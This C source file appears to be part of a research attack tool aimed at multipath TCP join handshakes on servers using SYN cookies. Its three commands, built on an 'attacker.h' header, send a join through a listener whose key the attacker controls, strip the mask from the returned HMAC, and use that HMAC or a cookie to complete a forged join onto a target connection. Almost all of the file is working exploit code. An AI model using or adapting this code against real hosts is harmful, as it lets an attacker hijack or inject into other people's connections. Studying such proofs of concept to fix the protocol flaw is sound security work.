// SPDX-License-Identifier: GPL-2.0-only
/*
 * The mask of one join taken off the HMAC of another. There are three commands, as the server
 * has to use SYN cookies for the first and the last one, and a request for the one between.
 */
#include <stdio.h>
#include <string.h>

#include "attacker.h"

static struct attempt first;

/* As "join", up to the SYN/ACK */
bool cmd_other_syn(void)
{
	const struct connection *target, *teacher;

	if (!arg_connections(&target, &teacher))
		return false;
	start_attempt(&first, target, teacher, 0);
	syn_answered(&first);
	return true;
}

/*
 * via=ADDR	 a join of connection own=N to the listener there, whose key=HEX the attacker
 *		 has, with the ports and the sequence number of the first one. Its ACK has the
 *		 HMAC of the first one. Then a RST takes the request away.
 */
bool cmd_other_mask(void)
{
	const struct connection *target = arg_connection("conn");
	const struct connection *own = arg_connection("own");
	uint8_t hmac[SHA256_DIGEST_LENGTH], mask[OWN_ACK_MASK_LEN];
	struct attempt attempt = first;
	int i;

	if (!target || !own)
		return false;
	attempt.seq--;
	attempt.to.addr = arg_addr("via", "0.0.0.0");
	attempt.nonces[CLIENT] = random32();
	attempt.token = key_token(own->keys[SERVER]) ^ own_token_mask(&attempt);
	if (!syn_answered(&attempt))
		return true;
	join_hmac(target->keys[CLIENT], target->keys[SERVER],
		  first.nonces[CLIENT], first.nonces[SERVER], hmac);
	own_ack_mask(&attempt, own, mask);
	for (i = 0; i < ACK_HMAC_LEN; i++)
		hmac[i] ^= mask[i];
	end_join(&attempt, own, hmac);
	return true;
}

/* via=ADDR	 the ACK of the first one, without a mask, with a cookie of the listener there */
bool cmd_other_ack(void)
{
	const struct connection *target = arg_connection("conn");
	uint8_t hmac[SHA256_DIGEST_LENGTH];
	struct attempt attempt = first;
	uint32_t cookie;

	if (!target)
		return false;
	attempt.to.addr = arg_addr("via", "0.0.0.0");
	attempt.seq--;
	if (!ask_for_cookie(&attempt, &cookie))
		return false;
	attempt.seq++;
	attempt.peer_seq = cookie + 1;
	join_hmac(target->keys[CLIENT], target->keys[SERVER],
		  attempt.nonces[CLIENT], attempt.nonces[SERVER], hmac);
	end_join(&attempt, target, hmac);
	return true;
}
